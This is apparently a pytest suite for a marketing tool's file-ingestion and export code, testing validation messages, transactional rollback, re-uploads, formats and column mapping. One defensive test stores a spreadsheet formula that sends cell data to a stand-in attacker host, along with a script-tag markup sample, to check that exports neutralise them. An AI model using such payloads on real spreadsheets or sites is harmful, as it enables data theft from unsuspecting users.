"""core.ingest and core.contracts: files -> validated rows -> one transaction.

Every bad input must end with a message a marketer can act on (an error's title and msg, or a
reason per row naming the field and the file line) and with the store exactly as it was.
"""

from __future__ import annotations

import io
import json
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from core.contracts import ATTRIBUTE, IGNORE, resolve_mapping, suggest_mapping
from core.errors import MappingError, StoreError, UploadError
from core.exports import neutralise_formula, safe_csv_bytes
from core.ingest import InvalidRowsError, commit, ingest_file, prepare
from core.upload_reader import read_upload

PRODUCTS_CSV = b"product_id,title,price\nP1,Tent,189.00\nP2,Hat,12.50\nP3,Sock,4\n"
EVENTS_CSV = (
    b"user_id,ts,event_name,product_id\n"
    b"U1,2026-10-01 10:00:00,view,P1\n"
    b"U1,2026-10-01 10:05:00,purchase,P1\n"
    b"U2,2026-10-02 09:00:00,view,\n"  # no product: still one event, still idempotent
)
RETAILROCKET_CSV = (
    b"timestamp,visitorid,event,itemid,transactionid\n"
    b"1433221332117,257597,view,355908,\n"
    b"1433224214164,992329,view,248676,\n"
    b"1433221955914,121688,transaction,15335,4000\n"
)


def plan_for(store, table, data, name="upload.csv", mapping=None, constants=None, **options):
    return prepare(store, read_upload(name, data), table, mapping, constants, **options)


def upload(store, table, data, name="upload.csv", *, mapping=None, constants=None, skip_invalid=False, **options):
    return commit(store, plan_for(store, table, data, name, mapping, constants, **options), skip_invalid=skip_invalid)


def snapshot(store) -> dict[str, int]:
    """Row counts of every table an upload may write, the log included."""
    return {**store.counts(), "ingest_log": store.count("ingest_log")}


def rows(store, sql, params=()):
    with store.cursor() as cur:
        return cur.execute(sql, list(params)).fetchall()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def rejected_with(store, table, data, **kwargs):
    """Commit a file that has invalid rows: it must raise and write nothing. Returns {line: reason}."""
    before = snapshot(store)
    with pytest.raises(InvalidRowsError) as info:
        upload(store, table, data, **kwargs)
    assert snapshot(store) == before
    report = info.value.report
    assert report.committed is False
    return {r["line"]: r["reason"] for r in report.rejections}


# ---------------------------------------------------------------- bad files: clear message, nothing written

XLSX = io.BytesIO()
pd.DataFrame({"product_id": ["P9"], "title": ["Tent"]}).to_excel(XLSX, index=False)

BAD_FILES = {
    "empty": ("catalog.csv", b"", "Empty file", "is empty"),
    "binary-garbage": ("catalog.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 8, "Not a text file", "binary data"),
    "undecodable-utf8": ("catalog.csv", "product_id,title\nP9,Café\nP10,Cr\xe8me\n".encode("utf-8").replace(b"\xc3\xa8", b"\xe8"), "Undecodable text", "line 3"),
    "header-only": ("catalog.csv", b"product_id,title,price\n", "No rows to import", "header but no data rows"),
    "xlsx-renamed-csv": ("catalog.csv", XLSX.getvalue(), "Unexpected file type", "not CSV text"),
    "ragged-row": ("catalog.csv", b"product_id,title\nP9,Tent\nP10,Hat,extra\n", "Nothing was imported",
                   "(first: line 3 has 3 fields, the header has 2 — is there an unquoted comma?)"),
    "bad-json-line": ("catalog.jsonl", b'{"product_id": "P9", "title": "Tent"}\n{"product_id": P10}\n', "Malformed JSON Lines", "line 2"),
}


@pytest.mark.parametrize("case", BAD_FILES, ids=list(BAD_FILES))
def test_unreadable_file_is_refused_and_writes_nothing(catalog_store, tmp_path, case):
    name, data, title, says = BAD_FILES[case]
    before = snapshot(catalog_store)
    with pytest.raises(UploadError) as info:
        ingest_file(catalog_store, "products", write(tmp_path, name, data))
    assert info.value.title == title
    assert says in info.value.msg
    assert snapshot(catalog_store) == before


def test_file_over_the_limit_is_refused_before_it_is_read(catalog_store, tmp_path, monkeypatch):
    path = write(tmp_path, "catalog.csv", PRODUCTS_CSV * 20)
    before = snapshot(catalog_store)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("a file over the limit was read"))
    with pytest.raises(UploadError) as info:
        ingest_file(catalog_store, "products", path, max_bytes=1024)
    assert info.value.title == "File too large"
    assert "the limit is 1 KB" in info.value.msg
    assert snapshot(catalog_store) == before


def test_missing_file_is_refused(tmp_store, tmp_path):
    with pytest.raises(UploadError) as info:
        ingest_file(tmp_store, "products", tmp_path / "nope.csv")
    assert info.value.title == "File not found"


def test_missing_required_column_is_a_mapping_error_and_writes_nothing(catalog_store, tmp_path):
    before = snapshot(catalog_store)
    with pytest.raises(MappingError) as info:
        ingest_file(catalog_store, "products", write(tmp_path, "catalog.csv", b"product_id,price\nP9,12\n"))
    assert info.value.title == "Missing required column"
    assert "'title'" in info.value.msg and "products" in info.value.msg
    assert snapshot(catalog_store) == before


def test_events_file_without_a_timestamp_says_which_field_is_missing(tmp_store):
    with pytest.raises(MappingError, match="'ts'"):
        plan_for(tmp_store, "events", b"user_id,event_name\nU1,view\n")


# ---------------------------------------------------------------- bad rows: reason names field and line


def test_duplicate_ids_in_one_file_reject_both_rows_citing_both_lines(catalog_store):
    reasons = rejected_with(catalog_store, "products", b"product_id,title\nP9,Tent\nP10,Hat\nP9,Tent v2\n")
    assert reasons == {
        2: "duplicate product_id 'P9' in this file (lines 2 and 4)",
        4: "duplicate product_id 'P9' in this file (lines 2 and 4)",
    }


def test_duplicate_review_ids_in_one_file_are_rejected_not_merged(tmp_store):
    reasons = rejected_with(tmp_store, "reviews", b"review_id,rating,text\nR1,5,Great\nR2,4,Fine\nR1,1,Broke\n")
    assert reasons == {2: "duplicate review_id 'R1' in this file (lines 2 and 4)", 4: "duplicate review_id 'R1' in this file (lines 2 and 4)"}


def test_duplicate_user_ids_in_one_file_are_rejected(tmp_store):
    reasons = rejected_with(tmp_store, "users", b"user_id,country\nU1,FR\nU1,DE\n")
    assert set(reasons) == {2, 3}
    assert "duplicate user_id 'U1'" in reasons[2]


@pytest.mark.parametrize(
    "price, reason",
    [
        ("abc", "price: 'abc' is not a number"),
        ("-3", "price must not be negative (got -3)"),
        ("$-3.00", "price must not be negative (got -3)"),
        ("12.50.1", "price: '12.50.1' is not a number"),
        ("1.299,00", "price: '1.299,00' is not a number"),  # ambiguous: refused, not guessed
        ("inf", "price: 'inf' is not a number"),
    ],
)
def test_bad_price_is_rejected_with_the_value_and_line(catalog_store, price, reason):
    data = f'product_id,title,price\nP9,Tent,189\nP10,Hat,"{price}"\n'.encode()
    assert rejected_with(catalog_store, "products", data, unreadable_price="reject") == {3: reason}


@pytest.mark.parametrize(
    ("policy", "price", "stored", "listed"),
    [
        ("lowest", "$74.99 - $249.99", 74.99, "$74.99 - $249.99"),
        ("lowest", "Total price:", None, "Total price:"),
        ("none", "$74.99 - $249.99", None, "$74.99 - $249.99"),
        ("lowest", "$12.50", 12.5, None),
    ],
)
def test_unreadable_prices_import_the_product_and_keep_the_price_as_listed(tmp_store, policy, price, stored, listed):
    data = f'product_id,title,price\nP9,Tent,"{price}"\n'.encode()
    report = upload(tmp_store, "products", data, unreadable_price=policy)
    assert (report.inserted, report.rejected) == (1, 0)
    assert rows(tmp_store, "SELECT price, attributes->>'price_as_listed' FROM products") == [(stored, listed)]


def test_a_bad_price_policy_is_refused(tmp_store):
    with pytest.raises(UploadError, match="choose one of reject, lowest, none"):
        upload(tmp_store, "products", b"product_id,title,price\nP9,Tent,1\n", unreadable_price="guess")


def test_breadcrumb_categories_and_marketplace_boilerplate(tmp_store):
    data = (b'product_id,title,category,description\n'
            b'P1,Bricks,Toys & Games | Building Toys | Building Sets,"Make sure this fits by entering your model number. | 500 bricks"\n'
            b'P2,Mug,Kitchen,Stoneware mug\n')
    report = upload(tmp_store, "products", data)
    assert rows(tmp_store, "SELECT category, attributes->>'category_path', description, attributes->>'description_as_listed' "
                           "FROM products ORDER BY product_id") == [
        ("Toys & Games", "Toys & Games | Building Toys | Building Sets", "500 bricks",
         "Make sure this fits by entering your model number. | 500 bricks"),
        ("Kitchen", None, "Stoneware mug", None)]
    assert any("1 categories are paths" in w for w in report.warnings)
    from core.copy.facts import load_facts

    assert load_facts(tmp_store, ["P1"])["P1"].kind == "Building Sets"


def test_infinite_price_from_parquet_is_rejected(tmp_store):
    buf = io.BytesIO()
    pd.DataFrame({"product_id": ["P1", "P2"], "title": ["Tent", "Hat"], "price": [189.0, float("inf")]}).to_parquet(buf)
    before = snapshot(tmp_store)
    plan = prepare(tmp_store, read_upload("catalog.parquet", buf.getvalue()), "products")
    assert plan.rejected[["line", "reason"]].values.tolist() == [[2, "price: inf is not a number"]]
    with pytest.raises(InvalidRowsError):
        commit(tmp_store, plan)
    assert snapshot(tmp_store) == before


def test_unparseable_timestamps_are_rejected_with_the_value_and_line(tmp_store):
    data = b"user_id,ts,event_name\nU1,2026-10-01 10:00,view\nU2,yesterday,view\nU3,2020-13-45,view\nU4,1850-01-01,view\n"
    assert rejected_with(tmp_store, "events", data) == {
        3: "ts: 'yesterday' is not a date and time",
        4: "ts: '2020-13-45' is not a date and time",
        5: "ts: 1850-01-01 00:00:00 is outside 1970–2099",
    }


def test_empty_required_cells_are_rejected_by_field(tmp_store):
    data = b"user_id,ts,event_name\nU1,2026-10-01,view\n,2026-10-01,view\nU3,2026-10-01,\nn/a,2026-10-01, \n"
    assert rejected_with(tmp_store, "events", data) == {3: "user_id is empty", 4: "event_name is empty", 5: "user_id is empty; event_name is empty"}


def test_rating_outside_one_to_five_is_rejected(tmp_store):
    reasons = rejected_with(tmp_store, "reviews", b"rating,text\n5,Great\n6,Wow\n4.5,Hmm\n")
    assert reasons == {3: "rating must be a whole number from 1 to 5 (got 6)", 4: "rating must be a whole number from 1 to 5 (got 4.5)"}


def test_every_problem_of_a_row_is_listed(tmp_store):
    reasons = rejected_with(tmp_store, "events", b"user_id,ts,event_name,revenue\n,soon,view,lots\n")
    assert reasons == {2: "user_id is empty; ts: 'soon' is not a date and time; revenue: 'lots' is not a number"}


def test_rejections_after_quoted_newlines_cite_the_file_line(catalog_store):
    data = (
        b'product_id,title,description,price\n'
        b'P9,Tent,"Sleeps two.\nPacks small.",189\n'
        b'P10,Hat,"Wide\nbrim",-1\n'
        b'P11,Sock,Wool,abc\n'
    )
    assert rejected_with(catalog_store, "products", data) == {
        4: "price must not be negative (got -1)",
        6: "price: 'abc' is not a number",
    }


def test_long_bad_cells_are_cut_short_in_the_reason(catalog_store):
    page = "<html>" + "x" * 5000 + "</html>"
    reasons = rejected_with(catalog_store, "products", f"product_id,title,price\nP9,Tent,{page}\n".encode())
    assert len(reasons[2]) < 100 and reasons[2].endswith("… is not a number")


# ---------------------------------------------------------------- policy: all or nothing, skip_invalid


def test_a_file_with_one_invalid_row_is_rejected_whole_by_default(catalog_store):
    data = b"product_id,title,price\nP9,Tent,189\nP10,Hat,-5\nP11,Sock,4\n"
    before = snapshot(catalog_store)
    plan = plan_for(catalog_store, "products", data)
    assert (plan.inserted, len(plan.rejected)) == (2, 1)
    with pytest.raises(InvalidRowsError) as info:
        commit(catalog_store, plan)
    error = info.value
    assert error.title == "Nothing was imported"
    assert "1 of 3 rows" in error.msg and "line 3" in error.msg and "Nothing was written" in error.msg
    assert error.report.rejections == [{"line": 3, "reason": "price must not be negative (got -5)"}]
    assert snapshot(catalog_store) == before
    assert not rows(catalog_store, "SELECT * FROM products WHERE product_id IN ('P9', 'P11')")


def test_skip_invalid_commits_only_the_valid_rows(catalog_store):
    data = b"product_id,title,price\nP9,Tent,189\nP10,Hat,-5\nP11,Sock,4\n"
    before = catalog_store.count("products")
    report = upload(catalog_store, "products", data, skip_invalid=True)
    assert (report.rows, report.inserted, report.updated, report.rejected) == (3, 2, 0, 1)
    assert report.committed and report.skipped_invalid
    assert catalog_store.count("products") == before + 2
    assert not rows(catalog_store, "SELECT * FROM products WHERE product_id = 'P10'")
    log = rows(catalog_store, "SELECT rows_in_file, inserted, updated, rejected FROM ingest_log ORDER BY ingested_at DESC LIMIT 1")
    assert log == [(3, 2, 0, 1)]


def test_skip_invalid_with_no_valid_row_writes_nothing(catalog_store):
    before = snapshot(catalog_store)
    with pytest.raises(UploadError, match="no valid rows"):
        upload(catalog_store, "products", b"product_id,title,price\nP9,Tent,-1\n", skip_invalid=True)
    assert snapshot(catalog_store) == before


def test_prepare_and_dry_run_write_nothing(catalog_store, tmp_path):
    before = snapshot(catalog_store)
    plan = plan_for(catalog_store, "products", b"product_id,title\nP1,Renamed\nP9,New\n")
    assert (plan.inserted, plan.updated) == (1, 1)
    report = ingest_file(catalog_store, "products", write(tmp_path, "c.csv", b"product_id,title\nP9,New\n"), dry_run=True)
    assert report.inserted == 1 and not report.committed
    assert snapshot(catalog_store) == before


def test_plan_rows_list_every_line_with_its_fate(tmp_store):
    plan = plan_for(tmp_store, "products", b"product_id,title,price\nP1,Tent,1\nP2,Hat,x\nP3,Sock,2\n")
    shown = plan.rows()
    assert shown["line"].tolist() == [2, 3, 4]
    assert shown["action"].tolist() == ["insert", "reject", "insert"]
    assert shown["reason"].tolist()[1] == "price: 'x' is not a number"


class _FailOn:
    """A transaction cursor that raises when it is asked to run a statement containing ``marker``."""

    def __init__(self, cur, marker: str, error: Exception) -> None:
        self._cur, self._marker, self._error = cur, marker, error

    def execute(self, sql, *args, **kwargs):
        if self._marker in sql:
            raise self._error
        return self._cur.execute(sql, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._cur, name)


def fail_inside_transaction(monkeypatch, store, marker: str, error: Exception) -> None:
    real = store.transaction

    @contextmanager
    def transaction():
        with real() as cur:
            yield _FailOn(cur, marker, error)

    monkeypatch.setattr(store, "transaction", transaction)


def test_commit_that_fails_after_writing_rows_leaves_the_table_unchanged(catalog_store, monkeypatch):
    before = snapshot(catalog_store)
    titles = rows(catalog_store, "SELECT product_id, title, price FROM products ORDER BY product_id")
    plan = plan_for(catalog_store, "products", b"product_id,title,price\nP1,Renamed bottle,1\nP9,New tent,2\n")
    # The products are already replaced when the log insert, the last statement, fails.
    fail_inside_transaction(monkeypatch, catalog_store, "INSERT INTO ingest_log", duckdb.IOException("disk full"))
    with pytest.raises(StoreError) as info:
        commit(catalog_store, plan)
    assert info.value.title == "The import failed"
    assert "disk full" in info.value.msg and "Nothing was written" in info.value.msg
    assert snapshot(catalog_store) == before
    assert rows(catalog_store, "SELECT product_id, title, price FROM products ORDER BY product_id") == titles


def test_events_reupload_that_fails_between_delete_and_insert_keeps_the_old_events(tmp_store, monkeypatch):
    upload(tmp_store, "events", EVENTS_CSV)
    before = rows(tmp_store, "SELECT * FROM events ORDER BY ts")
    plan = plan_for(tmp_store, "events", EVENTS_CSV)
    fail_inside_transaction(monkeypatch, tmp_store, "INSERT INTO events", RuntimeError("killed"))
    with pytest.raises(RuntimeError, match="killed"):
        commit(tmp_store, plan)
    assert rows(tmp_store, "SELECT * FROM events ORDER BY ts") == before
    assert tmp_store.count("ingest_log") == 1


def test_review_file_with_some_ids_missing_gets_ids_for_the_rest(tmp_store):
    data = b"review_id,rating,text\nR1,5,Great\n,4,Fine\n"
    first = upload(tmp_store, "reviews", data)
    assert (first.inserted, first.rejected) == (2, 0)
    assert "1 review(s) have no id" in " ".join(first.warnings)
    again = upload(tmp_store, "reviews", data)
    assert (again.inserted, again.updated) == (0, 2)
    assert tmp_store.count("reviews") == 2


# ---------------------------------------------------------------- idempotent re-uploads

REUPLOADS = {
    "products": ("products", PRODUCTS_CSV, 3),
    "users": ("users", b"user_id,first_seen,country,plan\nU1,2026-01-05,FR,pro\nU2,,DE,\n", 2),
    "reviews-with-ids": ("reviews", b"review_id,product_id,rating,text\nR1,P1,5,Great\nR2,P1,2,Leaks\n", 2),
    # Two identical reviews are two people: both kept, and both updated on re-upload.
    "reviews-without-ids": ("reviews", b"product_id,rating,text\nP1,5,Love it!\nP1,5,Love it!\nP2,1,Broke\n", 3),
    "events": ("events", EVENTS_CSV, 3),
}


@pytest.mark.parametrize("case", REUPLOADS, ids=list(REUPLOADS))
def test_uploading_the_same_file_twice_updates_instead_of_duplicating(tmp_store, case):
    table, data, n = REUPLOADS[case]
    first = upload(tmp_store, table, data)
    assert (first.inserted, first.updated, first.rejected) == (n, 0, 0)
    # updated_at records the upload itself; every other value must come back the same.
    content = f"SELECT * {'EXCLUDE (updated_at)' if table == 'products' else ''} FROM {table} ORDER BY ALL"
    stored = rows(tmp_store, content)
    second = upload(tmp_store, table, data)
    assert (second.inserted, second.updated, second.rejected) == (0, n, 0)
    assert tmp_store.count(table) == n
    assert rows(tmp_store, content) == stored
    assert tmp_store.count("ingest_log") == 2


def test_reupload_with_changed_values_updates_the_stored_rows(catalog_store):
    report = upload(catalog_store, "products", b"product_id,title,price\nP1,Summit Bottle 750,19.99\n")
    assert (report.inserted, report.updated) == (0, 1)
    assert rows(catalog_store, "SELECT title, price FROM products WHERE product_id = 'P1'") == [("Summit Bottle 750", 19.99)]


def test_exact_repeats_are_kept_as_separate_events_and_reported(tmp_store):
    data = EVENTS_CSV + b"U1,2026-10-01 10:00:00,view,P1\n"
    report = upload(tmp_store, "events", data)
    assert (report.rows, report.inserted, report.duplicates) == (4, 4, 1)
    assert any("1 row(s) repeat an earlier row of the file exactly (lines 5)" in w for w in report.warnings)
    assert rows(tmp_store, "SELECT rows_in_file, inserted FROM ingest_log") == [(4, 4)]
    assert tmp_store.count("events") == 4


def test_exact_repeats_are_dropped_only_when_asked(tmp_store, tmp_path):
    data = EVENTS_CSV + b"U1,2026-10-01 10:00:00,view,P1\n"
    report = ingest_file(tmp_store, "events", write(tmp_path, "log.csv", data), drop_duplicates=True)
    assert (report.rows, report.inserted, report.dropped_duplicates) == (4, 3, 1)
    assert report.totals["not_stored"]["rows"] == 1 and report.reconciled
    assert tmp_store.count("events") == 3


def order_log(seed: int = 7, customers: int = 40, orders: int = 400) -> bytes:
    """An order export as shops write it: same-day repeat purchases of one product at other prices."""
    import numpy as np

    rng = np.random.default_rng(seed)
    lines = ["customer,date,product,amount"]
    for _ in range(orders):
        customer, day = f"C{rng.integers(customers):03d}", f"2026-03-{rng.integers(1, 4):02d}"
        amount = f"{rng.integers(100, 9999) / 100:.2f}"
        lines.append(f"{customer},{day},P{rng.integers(3)},{amount}")
    lines.append("C001,2026-03-01,P1,12.00")
    lines.append("C001,2026-03-01,P1,77.00")  # the CDNOW case: $12 and $77 on one day, both real
    return ("\n".join(lines) + "\n").encode()


def test_same_day_repeat_purchases_all_land_and_revenue_matches_the_file_to_the_cent(tmp_store):
    data = order_log()
    file = pd.read_csv(io.BytesIO(data))
    assert file.duplicated(["customer", "date", "product"]).sum() > 100  # what the old natural key merged
    mapping = {"customer": "user_id", "date": "ts", "product": "product_id", "amount": "revenue"}
    report = upload(tmp_store, "events", data, mapping=mapping, constants={"event_name": "purchase"})
    stored = rows(tmp_store, "SELECT count(*), count(DISTINCT user_id), sum(revenue) FROM events")[0]
    assert stored[:2] == (len(file), file["customer"].nunique())
    assert round(stored[2], 2) == round(file["amount"].sum(), 2) == report.totals["file"]["revenue"] == report.totals["stored"]["revenue"]
    assert report.totals["stored"]["purchases"] == len(file) and report.reconciled
    assert sorted(r[0] for r in rows(tmp_store, "SELECT revenue FROM events WHERE user_id = 'C001' AND ts = '2026-03-01' "
                                              "AND product_id = 'P1' AND revenue IN (12, 77)")) == [12.0, 77.0]

    again = upload(tmp_store, "events", data, mapping=mapping, constants={"event_name": "purchase"})
    assert (again.inserted, again.updated) == (0, len(file))
    assert tmp_store.count("events") == len(file)


def test_order_lines_get_revenue_from_quantity_and_unit_price_and_returns_are_not_purchases(tmp_store):
    data = (b"InvoiceNo,StockCode,Quantity,InvoiceDate,UnitPrice,CustomerID\n"
            b"536365,85123A,6,2010-12-01 08:26:00,2.55,17850.0\n"
            b"536365,71053,6,2010-12-01 08:26:00,3.39,17850.0\n"
            b"C536379,85123A,-1,2010-12-01 09:41:00,2.55,17850.0\n")
    report = upload(tmp_store, "events", data, mapping={"StockCode": "product_id"}, constants={"event_name": "purchase"})
    assert rows(tmp_store, "SELECT order_id, event_name, quantity, round(revenue, 2) FROM events ORDER BY ts, product_id") == [
        ("536365", "purchase", 6.0, 20.34), ("536365", "purchase", 6.0, 15.3), ("C536379", "return", -1.0, -2.55)]
    assert report.totals["stored"] == {"rows": 3, "users": 1, "purchases": 2, "returns": 1, "revenue": 33.09}
    assert any("Revenue computed as quantity × unit price for 3 row(s)" in w for w in report.warnings)
    assert any("stored as 'return' events" in w for w in report.warnings)


def test_rejected_rows_are_exactly_the_difference_between_file_and_stored_totals(tmp_store):
    data = (b"user_id,ts,event_name,revenue\nU1,2026-10-01,purchase,10.10\nU2,not a date,purchase,5.05\n"
            b"U3,2026-10-02,purchase,1,2\nU4,2026-10-03,purchase,2.50\n")
    report = upload(tmp_store, "events", data, skip_invalid=True)
    assert report.totals["file"]["rows"] == 4 and report.totals["stored"]["rows"] == 2
    assert report.totals["not_stored"] == {"rows": 2, "users": 1, "purchases": 1, "returns": 0, "revenue": 5.05}
    assert report.totals["stored"]["revenue"] == 12.6 and report.reconciled
    assert [r["line"] for r in report.rejections] == [3, 4]
    assert report.rejections[1]["reason"] == "line 4 has 5 fields, the header has 4 — is there an unquoted comma?"


def test_events_stored_before_row_keys_are_replaced_once_by_their_file(tmp_store):
    with tmp_store.cursor() as cur:  # as an older version stored it: no row_key
        cur.execute("INSERT INTO events (user_id, ts, event_name, product_id) VALUES ('U1', '2026-10-01 10:00:00', 'view', 'P1')")
    first = upload(tmp_store, "events", EVENTS_CSV)
    assert (first.inserted, first.updated) == (2, 1) and tmp_store.count("events") == 3
    second = upload(tmp_store, "events", EVENTS_CSV)
    assert (second.inserted, second.updated) == (0, 3) and tmp_store.count("events") == 3


# ---------------------------------------------------------------- formats


def _products_frame() -> pd.DataFrame:
    return pd.DataFrame({"product_id": ["P1", "P2"], "title": ["Tent", "Café crème mug"], "price": [189.0, 12.5]})


def _csv(frame):
    return frame.to_csv(index=False).encode()


def _tsv(frame):
    return frame.to_csv(index=False, sep="\t").encode()


def _xlsx(frame):
    buf = io.BytesIO()
    frame.to_excel(buf, index=False)
    return buf.getvalue()


def _json(frame):
    return frame.to_json(orient="records", force_ascii=False).encode()


def _json_wrapped(frame):
    return json.dumps({"count": len(frame), "products": frame.to_dict("records")}).encode()


def _jsonl(frame):
    return frame.to_json(orient="records", lines=True, force_ascii=False).encode()


def _parquet(frame):
    buf = io.BytesIO()
    frame.to_parquet(buf, index=False)
    return buf.getvalue()


FORMATS = {
    "csv": ("catalog.csv", _csv),
    "tsv": ("catalog.tsv", _tsv),
    "xlsx": ("catalog.xlsx", _xlsx),
    "json-array": ("catalog.json", _json),
    "json-object": ("catalog.json", _json_wrapped),
    "jsonl": ("catalog.jsonl", _jsonl),
    "parquet": ("catalog.parquet", _parquet),
}


@pytest.mark.parametrize("fmt", FORMATS, ids=list(FORMATS))
def test_every_supported_format_stores_the_same_products(tmp_store, tmp_path, fmt):
    name, build = FORMATS[fmt]
    report = ingest_file(tmp_store, "products", write(tmp_path, name, build(_products_frame())))
    assert (report.inserted, report.rejected) == (2, 0)
    assert rows(tmp_store, "SELECT product_id, title, price FROM products ORDER BY product_id") == [
        ("P1", "Tent", 189.0),
        ("P2", "Café crème mug", 12.5),
    ]


def test_semicolon_file_with_decimal_commas_is_stored(tmp_store):
    upload(tmp_store, "products", "product_id;title;price\nP1;Crème;12,50\nP2;Tasse;€ 3,00\n".encode("cp1252"))
    assert rows(tmp_store, "SELECT title, price, currency FROM products ORDER BY product_id") == [("Crème", 12.5, None), ("Tasse", 3.0, "EUR")]


def test_gb18030_titles_are_stored_correctly(tmp_store):
    upload(tmp_store, "products", "product_id,title\nP1,保温水杯\n".encode("gb18030"))
    assert rows(tmp_store, "SELECT title FROM products") == [("保温水杯",)]


def test_report_describes_the_file(tmp_store):
    report = upload(tmp_store, "products", "product_id\ttitle\nP1\tCafé\n".encode("utf-8-sig"), name="c.tsv")
    assert (report.file, report.format, report.encoding, report.delimiter) == ("c.tsv", "tsv", "utf-8-sig", "\t")
    assert json.loads(json.dumps(report.to_dict()))["inserted"] == 1


# ---------------------------------------------------------------- formulas and markup


def test_formulas_and_markup_are_stored_as_text_exactly_and_neutralised_in_exports(tmp_store):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    script = "<script>alert('x')</script><b>Bold</b>"
    data = pd.DataFrame({"product_id": ["P1", "P2"], "title": [formula, "@SUM(1+1)"], "description": [script, "-2+3"]}).to_csv(index=False).encode()
    upload(tmp_store, "products", data)
    stored = rows(tmp_store, "SELECT title, description FROM products ORDER BY product_id")
    assert stored == [(formula, script), ("@SUM(1+1)", "-2+3")]

    with tmp_store.cursor() as cur:
        frame = cur.execute("SELECT product_id, title, description, price FROM products ORDER BY product_id").df()
    exported = pd.read_csv(io.BytesIO(safe_csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
    assert exported["title"].tolist() == ["'" + formula, "'@SUM(1+1)"]
    assert exported["description"].tolist() == [script, "'-2+3"]  # markup is not a formula: left as is


def test_export_neutralises_formula_prefixes_but_not_numbers():
    assert [neutralise_formula(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "ok", -1, 2.5, None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "ok", -1, 2.5, None,
    ]
    assert [neutralise_formula(v) for v in ("  =1+1", "＝HYPERLINK(1)", " plain")] == ["'  =1+1", "'＝HYPERLINK(1)", " plain"]
    out = safe_csv_bytes(pd.DataFrame({"=cmd": ["=A1"], "n": [-3]})).decode("utf-8-sig")
    assert out.splitlines() == ["'=cmd,n", "'=A1,-3"]


# ---------------------------------------------------------------- mapping


def test_retailrocket_events_map_automatically_with_exact_timestamps(tmp_store):
    raw = read_upload("events.csv", RETAILROCKET_CSV)
    mapping = suggest_mapping(raw.frame, "events")
    assert mapping == {"timestamp": "ts", "visitorid": "user_id", "event": "event_name", "itemid": "product_id", "transactionid": IGNORE}
    upload(tmp_store, "events", RETAILROCKET_CSV)
    assert rows(tmp_store, "SELECT user_id, ts, event_name, product_id FROM events ORDER BY ts") == [
        ("257597", datetime(2015, 6, 2, 5, 2, 12, 117000), "view", "355908"),
        ("121688", datetime(2015, 6, 2, 5, 12, 35, 914000), "transaction", "15335"),
        ("992329", datetime(2015, 6, 2, 5, 50, 14, 164000), "view", "248676"),
    ]


def test_explicit_mapping_of_export_names_needs_no_file_edit(tmp_store):
    data = b"when,who,event,itemid\n1433221332117,257597,view,355908\n"
    upload(tmp_store, "events", data, mapping={"who": "user_id", "when": "ts"})
    assert rows(tmp_store, "SELECT user_id, ts FROM events") == [("257597", datetime(2015, 6, 2, 5, 2, 12, 117000))]


def test_explicit_mapping_on_retailrocket_names(tmp_store):
    plan = plan_for(tmp_store, "events", RETAILROCKET_CSV, mapping={"visitorid": "user_id", "timestamp": "ts"})
    assert plan.mapping["visitorid"] == "user_id" and plan.mapping["timestamp"] == "ts"
    assert plan.valid["ts"].min() == pd.Timestamp("2015-06-02 05:02:12.117")


def test_user_choice_replaces_the_suggested_column_for_a_field(tmp_store):
    data = b"user_id,visitor,ts,event_name\nA,B,2026-01-01,view\n"
    plan = plan_for(tmp_store, "events", data, mapping={"visitor": "user_id"})
    assert plan.mapping["user_id"] == IGNORE
    assert plan.valid["user_id"].tolist() == ["B"]


@pytest.mark.parametrize(
    "values, expected",
    [
        (["2019-10-01 00:00:02 UTC"], datetime(2019, 10, 1, 0, 0, 2)),
        (["2019-10-01T02:00:02+02:00"], datetime(2019, 10, 1, 0, 0, 2)),
        (["1569888002"], datetime(2019, 10, 1, 0, 0, 2)),
        (["1569888002000"], datetime(2019, 10, 1, 0, 0, 2)),
        (["13-01-2020", "02-03-2020"], datetime(2020, 3, 2)),  # a day above 12 means dd-mm-yyyy
        (["01-02-2020", "02-03-2020"], datetime(2020, 2, 3)),  # ambiguous: month first
        (["31-Jul-18"], datetime(2018, 7, 31)),
    ],
    ids=["utc-suffix", "offset", "epoch-s", "epoch-ms", "day-first", "month-first", "dd-mon-yy"],
)
def test_timestamp_layouts_parse_to_utc(tmp_store, values, expected):
    data = ("user_id,ts,event_name\n" + "".join(f"U{i},{v},view\n" for i, v in enumerate(values))).encode()
    plan = plan_for(tmp_store, "events", data)
    assert len(plan.rejected) == 0
    assert plan.valid["ts"].iloc[-1] == pd.Timestamp(expected)


def test_epoch_numbers_from_parquet_parse(tmp_store):
    buf = io.BytesIO()
    pd.DataFrame({"user_id": [1], "ts": [1569888002], "event_name": ["view"]}).to_parquet(buf)
    plan = prepare(tmp_store, read_upload("e.parquet", buf.getvalue()), "events")
    assert plan.valid[["user_id", "ts"]].values.tolist() == [["1", pd.Timestamp("2019-10-01 00:00:02")]]


@pytest.mark.parametrize(
    "mapping, says",
    [
        ({"nope": "ts"}, "not in the file: 'nope'"),
        ({"when": "ts", "ts": "ts"}, "map to 'ts'; a field takes one column"),
        ({"ts": "timestamp_utc"}, "'ts' cannot map to 'timestamp_utc'"),
        ({"when": ATTRIBUTE}, "cannot map to '(attribute)'"),  # events keep no attributes
    ],
    ids=["unknown-column", "two-columns-one-field", "bad-target", "attribute-on-events"],
)
def test_contradictory_mapping_is_a_mapping_error(tmp_store, mapping, says):
    with pytest.raises(MappingError) as info:
        plan_for(tmp_store, "events", b"user_id,ts,event_name,when\nU1,2026-01-01,view,x\n", mapping=mapping)
    assert says in info.value.msg


@pytest.mark.parametrize(
    "constants, says",
    [({"colour": "red"}, "'colour' is not a field of events"), ({"user_id": "U9"}, "'user_id' has both a column")],
)
def test_bad_constants_are_mapping_errors(tmp_store, constants, says):
    with pytest.raises(MappingError, match=says):
        plan_for(tmp_store, "events", b"user_id,ts,event_name\nU1,2026-01-01,view\n", constants=constants)


def test_unknown_table_is_a_mapping_error(tmp_store):
    with pytest.raises(MappingError, match="Unknown table 'orders'"):
        plan_for(tmp_store, "orders", b"a\n1\n")


